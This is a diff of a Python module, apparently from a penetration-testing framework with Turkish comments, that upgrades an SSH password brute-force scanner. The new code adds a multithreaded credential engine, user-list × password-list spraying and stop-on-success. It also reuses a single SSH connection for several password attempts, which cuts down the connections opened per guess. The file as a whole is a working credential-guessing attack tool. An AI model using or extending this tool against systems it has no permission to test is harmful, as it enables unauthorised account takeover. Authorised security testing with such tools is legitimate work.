@@ -1,12 +1,263 @@
-import concurrent.futures
+import contextlib
 import os
+import queue
+import socket
 import threading
+from collections.abc import Callable, Iterable, Iterator
 from typing import Any
 
 from rich import print
 
 from core.module import BaseModule
 from core.option import Option
+from core.wordlist import Wordlist
+
+# Kuyruk kapasitesi = THREADS * bu katsayı (üretici bu sınırda bekler)
+QUEUE_DEPTH_PER_THREAD = 4
+
+# Aynı TCP bağlantısında denenecek en fazla parola. OpenSSH varsayılanı
+# MaxAuthTries=6'dır; sunucu daha erken kapatırsa parola yeni bağlantıda tekrarlanır.
+DEFAULT_ATTEMPTS_PER_CONNECTION = 5
+
+# Kapanan bağlantı nedeniyle sonuçsuz kalan deneme en fazla bu kadar tekrarlanır
+_MAX_RETRIES = 2
+
+# Art arda bu kadar bağlantı kurulamazsa (hedef kapalı/filtreli) denemeler durdurulur
+MAX_CONNECT_FAILURES = 10
+
+# Kuyruk doluyken iptal kontrol aralığı (saniye)
+_PUT_POLL_INTERVAL = 0.1
+
+
+class SessionClosedError(Exception):
+    """Sunucu bağlantıyı kapattı; deneme yeni bağlantıda tekrarlanmalı."""
+
+
+class PasswordAuthUnavailableError(Exception):
+    """Sunucu parola (veya keyboard-interactive) kimlik doğrulamasını kabul etmiyor."""
+
+
+class SSHAuthSession:
+    """Tek TCP bağlantısı üzerinde aynı kullanıcı için ardışık parola denemeleri.
+
+    Her denemede yeni ``SSHClient`` (TCP + anahtar değişimi) kurmak yerine
+    tek ``Transport`` üzerinde ``auth_password`` tekrarlanır. SSH sunucuları
+    bağlantı içinde kullanıcı adı değişimine izin vermediğinden oturum tek
+    kullanıcıya bağlıdır.
+    """
+
+    def __init__(
+        self, paramiko: Any, host: str, port: int, username: str, timeout: float
+    ):
+        self._paramiko = paramiko
+        self.username = username
+        self.attempts = 0
+        sock = socket.create_connection((host, port), timeout=timeout)
+        try:
+            self.transport = paramiko.Transport(sock)
+            self.transport.banner_timeout = timeout
+            self.transport.auth_timeout = timeout
+            self.transport.start_client(timeout=timeout)
+        except BaseException:
+            sock.close()
+            raise
+
+    @property
+    def alive(self) -> bool:
+        return self.transport.is_active()
+
+    def try_password(self, password: str) -> bool:
+        """Parolayı dener; bağlantı koptuysa ``SessionClosedError`` yükseltir."""
+        paramiko = self._paramiko
+        self.attempts += 1
+        try:
+            # Sunucu yalnızca keyboard-interactive sunuyorsa paramiko ona düşer
+            self.transport.auth_password(self.username, password)
+        except paramiko.BadAuthenticationType as e:
+            raise PasswordAuthUnavailableError(
+                f"Sunucu parola ile girişe izin vermiyor (izinli: {', '.join(e.allowed_types)})"
+            ) from e
+        except paramiko.AuthenticationException as e:
+            # Bağlantı deneme sırasında koptuysa paramiko da bu hatayı verir;
+            # sonuç belirsizdir, parola yeni bağlantıda tekrar denenir
+            if not self.transport.is_active():
+                raise SessionClosedError(str(e)) from e
+            return False
+        except (paramiko.SSHException, OSError, EOFError) as e:
+            raise SessionClosedError(str(e)) from e
+        return self.transport.is_authenticated()
+
+    def close(self) -> None:
+        with contextlib.suppress(Exception):
+            self.transport.close()
+
+
+class CredentialEngine:
+    """Sınırlı kuyruklu kullanıcı×parola deneme motoru.
+
+    Üretici (ana thread) denemeleri ``THREADS * QUEUE_DEPTH_PER_THREAD``
+    kapasiteli kuyruğa akış halinde besler; kuyruk doluysa bekler. Bir
+    kimlik bilgisi bulununca (``stop_on_success``) yeni iş gönderilmez,
+    kuyrukta bekleyenler atılır ve worker'lar yalnızca ellerindeki denemeyi
+    bitirir. Aksi halde yalnızca bulunan kullanıcının kalan parolaları atlanır.
+
+    Her worker bir oturumu (``connect(username)``) ``attempts_per_connection``
+    denemeye kadar yeniden kullanır.
+
+    Args:
+        connect: Kullanıcı adı için yeni ``SSHAuthSession`` benzeri oturum açar.
+        threads: Worker sayısı (eşzamanlı bağlantı).
+        attempts_per_connection: Bir bağlantıda denenecek en fazla parola.
+        stop_on_success: İlk başarılı girişte tüm denemeleri durdur.
+        on_success: Bulunan her (kullanıcı, parola) için çağrılır.
+    """
+
+    def __init__(
+        self,
+        connect: Callable[[str], Any],
+        threads: int = 5,
+        attempts_per_connection: int = DEFAULT_ATTEMPTS_PER_CONNECTION,
+        stop_on_success: bool = True,
+        on_success: Callable[[str, str], Any] | None = None,
+    ) -> None:
+        self.connect = connect
+        self.threads = max(1, threads)
+        self.attempts_per_connection = max(1, attempts_per_connection)
+        self.stop_on_success = stop_on_success
+        self.on_success = on_success
+        self.stop_event = threading.Event()
+        self.found: list[tuple[str, str]] = []
+        self.attempts = 0
+        self.connections = 0
+        self.failed = 0
+        self.fatal_error: str | None = None
+        self._connect_failures = 0
+        self._found_users: set[str] = set()
+        self._lock = threading.Lock()
+
+    def _skip(self, username: str) -> bool:
+        return self.stop_event.is_set() or username in self._found_users
+
+    def run(self, credentials: Iterable[tuple[str, str]]) -> list[tuple[str, str]]:
+        """Denemeleri çalıştırır; bulunan (kullanıcı, parola) listesini döndürür."""
+        jobs: queue.Queue = queue.Queue(maxsize=self.threads * QUEUE_DEPTH_PER_THREAD)
+        workers = [
+            threading.Thread(target=self._worker, args=(jobs,), daemon=True)
+            for _ in range(self.threads)
+        ]
+        for t in workers:
+            t.start()
+
+        try:
+            for job in credentials:
+                if self.stop_event.is_set():
+                    break
+                if job[0] in self._found_users:
+                    continue
+                while not self.stop_event.is_set():
+                    try:
+                        jobs.put(job, timeout=_PUT_POLL_INTERVAL)
+                        break
+                    except queue.Full:
+                        continue
+        except BaseException:
+            self.stop_event.set()
+            raise
+        finally:
+            if self.stop_event.is_set():
+                # İptal: bekleyen işleri at, worker'lar yalnızca elindekini bitirsin
+                while True:
+                    try:
+                        jobs.get_nowait()
+                    except queue.Empty:
+                        break
+            for _ in workers:
+                jobs.put(None)
+            for t in workers:
+                t.join()
+        return self.found
+
+    def _worker(self, jobs: queue.Queue) -> None:
+        session = None
+        try:
+            while True:
+                job = jobs.get()
+                if job is None:
+                    return
+                username, password = job
+                if self._skip(username):
+                    continue
+                try:
+                    session = self._attempt(session, username, password)
+                except Exception:
+                    with self._lock:
+                        self.failed += 1
+                    session = self._close(session)
+        finally:
+            self._close(session)
+
+    @staticmethod
+    def _close(session: Any) -> None:
+        if session is not None:
+            session.close()
+        return None
+
+    def _session_for(self, session: Any, username: str) -> Any:
+        """Mevcut oturum kullanılamıyorsa yenisini açar."""
+        if (
+            session is not None
+            and session.username == username
+            and session.attempts < self.attempts_per_connection
+            and session.alive
+        ):
+            return session
+        self._close(session)
+        try:
+            session = self.connect(username)
+        except Exception as e:
+            with self._lock:
+                self._connect_failures += 1
+                unreachable = self._connect_failures >= MAX_CONNECT_FAILURES
+            if unreachable and not self.stop_event.is_set():
+                self.fatal_error = f"Hedefe bağlanılamıyor ({type(e).__name__}: {e})"
+                self.stop_event.set()
+            raise
+        with self._lock:
+            self.connections += 1
+            self._connect_failures = 0
+        return session
+
+    def _attempt(self, session: Any, username: str, password: str) -> Any:
+        for _ in range(_MAX_RETRIES):
+            if self._skip(username):
+                return session
+            try:
+                session = self._session_for(session, username)
+                success = session.try_password(password)
+            except SessionClosedError:
+                session = self._close(session)
+                continue
+            except PasswordAuthUnavailableError as e:
+                self.fatal_error = str(e)
+                self.stop_event.set()
+                return self._close(session)
+
+            with self._lock:
+                self.attempts += 1
+                if not success or username in self._found_users:
+                    return session
+                self._found_users.add(username)
+                self.found.append((username, password))
+            if self.stop_on_success:
+                self.stop_event.set()
+            if self.on_success is not None:
+                self.on_success(username, password)
+            # Kimliği doğrulanmış bağlantıda yeni deneme yapılamaz
+            return self._close(session)
+
+        with self._lock:
+            self.failed += 1
+        return session
 
 
 class ssh_brute(BaseModule):
@@ -20,7 +271,7 @@ class ssh_brute(BaseModule):
     )
     Author = "Mahmut P."
     Category = "auxiliary/scanner"
-    Version = "1.0"
+    Version = "1.1"
 
     Requirements = {"python": ["paramiko"]}
 
@@ -30,19 +281,45 @@ class ssh_brute(BaseModule):
             "RHOST": Option("RHOST", "127.0.0.1", True, "Hedef IP adresi"),
             "RPORT": Option("RPORT", 22, True, "Hedef Port"),
             "USERNAME": Option("USERNAME", "root", True, "Denenecek kullanıcı adı"),
+            "USER_FILE": Option(
+                "USER_FILE",
+                "",
+                False,
+                "Kullanıcı adı listesi (verilirse USERNAME yerine kullanıcı×parola denenir)",
+            ),
             "WORDLIST": Option(
                 "WORDLIST",
-                "config/wordlists/passwords/common.txt",
+                "config/wordlists/passwords/common_passwords.txt",
                 True,
                 "Şifre listesi dosyası",
             ),
             "THREADS": Option("THREADS", 5, True, "Eşzamanlı bağlantı sayısı"),
             "TIMEOUT": Option("TIMEOUT", 5, True, "Bağlantı zaman aşımı (saniye)"),
+            "ATTEMPTS_PER_CONN": Option(
+                "ATTEMPTS_PER_CONN",
+                DEFAULT_ATTEMPTS_PER_CONNECTION,
+                False,
+                "Tek TCP bağlantısında denenecek parola sayısı (1: her denemede yeni bağlantı)",
+            ),
+            "STOP_ON_SUCCESS": Option(
+                "STOP_ON_SUCCESS",
+                "true",
+                False,
+                "İlk başarılı girişte dur (false: her kullanıcı için devam et)",
+                choices=["true", "false"],
+            ),
+            "DEDUP": Option(
+                "DEDUP",
+                "false",
+                False,
+                "Wordlist'teki tekrarlanan satırları disk üzerinde ayıkla",
+                choices=["true", "false"],
+            ),
         }
         for option_name, option_obj in self.Options.items():
             setattr(self, option_name, option_obj.value)
 
-        self.stop_event = threading.Event()
+        self.engine: CredentialEngine | None = None
         self.success_password = None
         self._paramiko = None
 
@@ -59,94 +336,100 @@ class ssh_brute(BaseModule):
             self._paramiko = paramiko
         return self._paramiko
 
-    def attempt_login(self, target, port, username, password, timeout):
-        """Tek bir parola denemesini gerçekleştirir."""
-        if self.stop_event.is_set():
-            return None
+    @staticmethod
+    def iter_credentials(
+        usernames: Iterable[str], passwords: Iterable[str]
+    ) -> Iterator[tuple[str, str]]:
+        """Kullanıcı sıralı kullanıcı×parola matrisi.
 
-        paramiko = self._ensure_paramiko()
-        client = paramiko.SSHClient()
-        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
-
-        try:
-            client.connect(
-                hostname=target,
-                port=port,
-                username=username,
-                password=password,
-                timeout=timeout,
-                auth_timeout=timeout,
-            )
-            client.close()
-            self.stop_event.set()  # Başarılı olursa diğer thread'leri durdur
-            return password
-        except paramiko.AuthenticationException:
-            return None  # Yanlış şifre
-        except Exception:
-            return None
-        finally:
-            client.close()
+        Aynı kullanıcının parolaları ardışık geldiğinden worker'lar bağlantıyı
+        yeniden kullanabilir. ``passwords`` her kullanıcı için yeniden
+        dolaşılır (``Wordlist`` dosyayı baştan okur).
+        """
+        for username in usernames:
+            for password in passwords:
+                yield username, password
 
     def run(self, options: dict[str, Any]):
-        self._ensure_paramiko()
+        paramiko = self._ensure_paramiko()
         rhost = options.get("RHOST")
         rport = int(options.get("RPORT", 22))
         username = options.get("USERNAME")
+        user_file = str(options.get("USER_FILE") or "").strip()
         wordlist_path = options.get("WORDLIST")
         threads = int(options.get("THREADS", 5))
         timeout = float(options.get("TIMEOUT", 5))
+        per_conn = int(
+            options.get("ATTEMPTS_PER_CONN") or DEFAULT_ATTEMPTS_PER_CONNECTION
+        )
+        stop_on_success = str(options.get("STOP_ON_SUCCESS", "true")).lower() == "true"
 
-        self.stop_event.clear()
         self.success_password = None
 
-        if not os.path.exists(wordlist_path):
-            print(f"[bold red][-] Şifre dosyası bulunamadı: {wordlist_path}[/bold red]")
-            return False
+        for path in (wordlist_path, user_file):
+            if path and not os.path.exists(path):
+                print(f"[bold red][-] Dosya bulunamadı: {path}[/bold red]")
+                return False
 
         print(f"[bold cyan][*] {rhost}:{rport} SSH Bruteforce başlıyor...[/bold cyan]")
-        print(f"[bold cyan][*] Kullanıcı Adı: {username}[/bold cyan]")
+        print(f"[bold cyan][*] Kullanıcı: {user_file or username}[/bold cyan]")
         print(f"[bold cyan][*] Wordlist: {wordlist_path}[/bold cyan]")
 
+        dedup = str(options.get("DEDUP", "false")).lower() == "true"
         try:
-            with open(wordlist_path, encoding="utf-8", errors="ignore") as f:
-                passwords = [line.strip() for line in f if line.strip()]
+            wordlist = Wordlist(wordlist_path, dedup=dedup)
+            users = Wordlist(user_file, dedup=dedup) if user_file else None
         except Exception as e:
             print(f"[bold red][-] Dosya okunamadı: {e}[/bold red]")
             return False
 
-        if not passwords:
-            print(f"[bold yellow][!] {wordlist_path} dosyası boş.[/bold yellow]")
-            return False
+        print_lock = threading.Lock()
 
-        print(
-            f"[bold cyan][*] Toplam {len(passwords)} parola denenecek. (Thread: {threads})[/bold cyan]\n"
+        def on_success(user, password):
+            with print_lock:
+                print(f"[bold green][+] Geçerli: {user}:{password}[/bold green]")
+
+        self.engine = engine = CredentialEngine(
+            lambda user: SSHAuthSession(paramiko, rhost, rport, user, timeout),
+            threads=threads,
+            attempts_per_connection=per_conn,
+            stop_on_success=stop_on_success,
+            on_success=on_success,
         )
 
-        with concurrent.futures.ThreadPoolExecutor(max_workers=threads) as executor:
-            future_to_password = {
-                executor.submit(
-                    self.attempt_login, rhost, rport, username, pw, timeout
-                ): pw
-                for pw in passwords
-            }
+        try:
+            estimated = wordlist.estimate_lines()
+            if not estimated:
+                print(f"[bold yellow][!] {wordlist_path} dosyası boş.[/bold yellow]")
+                return False
+            usernames = users if users is not None else [username]
+            user_count = users.estimate_lines() if users is not None else 1
+            print(
+                f"[bold cyan][*] Yaklaşık {estimated * user_count} deneme yapılacak. "
+                f"(Thread: {threads}, bağlantı başına {per_conn} parola)[/bold cyan]\n"
+            )
+            engine.run(self.iter_credentials(usernames, wordlist))
+        finally:
+            wordlist.close()
+            if users is not None:
+                users.close()
 
-            for future in concurrent.futures.as_completed(future_to_password):
-                future_to_password[future]
-                try:
-                    result = future.result()
-                    if result:
-                        self.success_password = result
-                        break
-                except Exception:
-                    pass
+        print(
+            f"\n[bold cyan][*] {engine.attempts} deneme, {engine.connections} TCP bağlantısı"
+            + (f", {engine.failed} sonuçsuz" if engine.failed else "")
+            + "[/bold cyan]"
+        )
+        if engine.fatal_error:
+            print(f"[bold red][-] {engine.fatal_error}[/bold red]")
 
-        if self.success_password:
+        if engine.found:
+            self.success_password = engine.found[0][1]
             print("\n[bold green][+] BAŞARILI: Giriş sağlandı.[/bold green]")
-            print(f"[bold green][+] Kullanıcı Adı:[/bold green] {username}")
-            print(f"[bold green][+] Parola:[/bold green] {self.success_password}")
-            return True
-        else:
-            print(
-                f"\n[bold red][-] BAŞARISIZ: Verilen şifrelere listedeki {len(passwords)} şifre arasında eşleşme bulunamadı.[/bold red]"
-            )
+            for user, password in engine.found:
+                print(f"[bold green][+] Kullanıcı Adı:[/bold green] {user}")
+                print(f"[bold green][+] Parola:[/bold green] {password}")
             return True
+        print(
+            f"\n[bold red][-] BAŞARISIZ: Denenen {engine.attempts} kimlik bilgisi arasında eşleşme bulunamadı.[/bold red]"
+        )
+        return True